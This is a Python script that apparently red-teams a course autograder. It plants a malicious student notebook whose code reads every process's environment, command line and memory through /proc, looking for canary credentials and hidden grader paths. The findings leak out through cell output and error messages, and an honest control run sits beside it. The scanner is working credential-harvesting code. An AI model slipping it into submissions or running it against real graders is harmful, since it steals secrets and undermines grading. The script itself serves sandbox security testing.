"""a02: the grader's environment (canaries DATABASE_URL / AWS_SECRET_ACCESS_KEY) and hidden paths, searched from
every place student code runs: the kernel (a cell), the observer's child (training_memory, called by the hidden
check) and a rank (two_stage_step, launched by the observer). In each: every visible process's environ, cmdline
and status, the memory of every readable process (/proc/<pid>/mem over its maps, e.g. bwrap's init as pid 1),
the mount table, the root folder and the open descriptors. Findings go back through the cell's output and the
judge's quotes of returned values (the graded notebook / feedback). Honest control after it."""
import os, sys, json, glob
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u16

SCAN = r'''
def _scan(tag):
    import os, re
    out = [f"[{tag}] pid={os.getpid()} uid={os.getuid()} env_keys={sorted(os.environ)}"]
    # the canaries are searched by the variable names only; what follows a match is quoted (40 bytes), so the
    # scanner's own constants (which hold no value) cannot be a hit: a hit is a quoted "=postgresql://..."
    pats = [b"DATABASE_URL=", b"AWS_SECRET_ACCESS_KEY=", b"attack16", b"gradebook.db", b"source/ps1", b"autograders"]
    ctx = set()
    for p in sorted(os.listdir("/proc"), key=lambda s: (len(s), s)):
        if not p.isdigit():
            continue
        rec = [p]
        for f in ("cmdline", "environ"):
            try:
                data = open(f"/proc/{p}/{f}", "rb").read()
                hits = [x.decode() for x in pats if x in data]
                rec.append(f"{f}:{len(data)}B{hits}" + (f"={data[:160]!r}" if f == "cmdline" else ""))
            except OSError as e:
                rec.append(f"{f}:{e.strerror}")
        try:
            st = open(f"/proc/{p}/status").read()
            rec.append("Uid:" + re.search(r"Uid:\s+(\d+)", st).group(1))
        except Exception:
            pass
        memhits, readable = set(), 0
        try:
            with open(f"/proc/{p}/mem", "rb", buffering=0) as mem:
                for line in open(f"/proc/{p}/maps"):
                    a, b = (int(x, 16) for x in line.split()[0].split("-"))
                    if "r" not in line.split()[1] or b - a > (64 << 20):
                        continue
                    try:
                        mem.seek(a); data = mem.read(b - a); readable += len(data)
                        memhits.update(x.decode() for x in pats if x in data)
                        for x in pats[:2]:
                            i = data.find(x)
                            while i >= 0 and len(ctx) < 12:
                                ctx.add(data[i:i + len(x) + 40])
                                i = data.find(x, i + 1)
                    except OSError:
                        pass
            rec.append(f"mem:{readable}B read{sorted(memhits)}")
            if ctx:
                rec.append(f"CONTEXTS{sorted(ctx)}")
                ctx.clear()
        except OSError as e:
            rec.append(f"mem:{e.strerror}")
        out.append(" ".join(rec))
    try:
        mi = open("/proc/self/mountinfo").read().splitlines()
        out.append(f"mounts={len(mi)} host-looking=" + str([l.split()[3] for l in mi if any(s in l for s in ("attack16", "course", ".venv"))][:8]))
    except OSError as e:
        out.append(repr(e))
    out.append("root=" + str(sorted(os.listdir("/"))))
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds.append(fd + "->" + os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    out.append("fds=" + str(fds[:20]))
    return "\n".join(out)
'''
KERNEL = SCAN + "\nprint(_scan('kernel'))\n"
TM = SCAN + '''
def training_memory(model, optimizer):
    s = _scan("observer-child")
    return {"weights": s, "grads": 0, "optimizer_state": 0, "total": 0}
'''
TS = SCAN + '''
def two_stage_step(stage, batch, target, loss_fn, activation_shape):
    raise ValueError(_scan("rank")[:6000])
'''
nb = u16.notebook("ps1_memory", overrides={"training_memory": TM, "two_stage_step": TS}, append={"setup": KERNEL})
dest = u16.course("a02", {("mallory", "ps1_memory"): nb, ("zz_honest", "ps1_memory"): u16.honest("ps1_memory")})
p = u16.grade(dest, env=u16.CANARY_ENV)
u16.scores(dest)
u16.cell_outputs(dest, "mallory", "ps1_memory", ("setup", "training_memory_counts_tensors", "two_stage_step_matches_whole_model"))
blob = ""
for f in glob.glob(f"{dest}/**/*", recursive=True):
    if os.path.isfile(f):
        blob = open(f, "rb").read()
        for c in (b"postgresql://ta:" + b"secret@localhost", b"AKIASECRET" + b"CANARY123"):
            if c in blob and f.split("/")[3] != "submitted":
                print("CANARY", c, "FOUND IN", f)
print("canary search over the course folder done")
u16.cleanup(dest)
